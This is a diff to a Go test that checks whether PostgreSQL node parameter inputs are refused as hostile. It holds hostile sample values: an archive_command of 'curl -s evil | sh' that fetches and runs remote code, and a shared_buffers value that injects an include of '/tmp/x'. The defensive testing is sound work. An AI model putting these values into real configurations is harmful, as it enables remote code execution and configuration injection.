@@ -208,12 +208,14 @@ func TestHostileInputsRefused(t *testing.T) {
 		}},
 		{"PgNodeInput", "spec.parameters.archive_command", func(v activities.Validator) activities.Validator {
 			in := v.(activities.PgNodeInput)
-			in.Spec.Parameters = activities.Parameters(in.Spec.Cluster, in.Spec.Port, map[string]string{"archive_command": "curl -s evil | sh"})
+			// A crafted map: Parameters itself would keep pigwf's archive_command.
+			in.Spec.Parameters = activities.Parameters(in.Spec.Cluster, in.Spec.Port, false, nil)
+			in.Spec.Parameters["archive_command"] = "curl -s evil | sh"
 			return in
 		}},
 		{"PgNodeInput", "spec.parameters.shared_buffers", func(v activities.Validator) activities.Validator {
 			in := v.(activities.PgNodeInput)
-			in.Spec.Parameters = activities.Parameters(in.Spec.Cluster, in.Spec.Port, map[string]string{"shared_buffers": "1GB'\ninclude '/tmp/x"})
+			in.Spec.Parameters = activities.Parameters(in.Spec.Cluster, in.Spec.Port, false, map[string]string{"shared_buffers": "1GB'\ninclude '/tmp/x"})
 			return in
 		}},
 		{"PgNodeInput", "spec.hba[3]", func(v activities.Validator) activities.Validator {
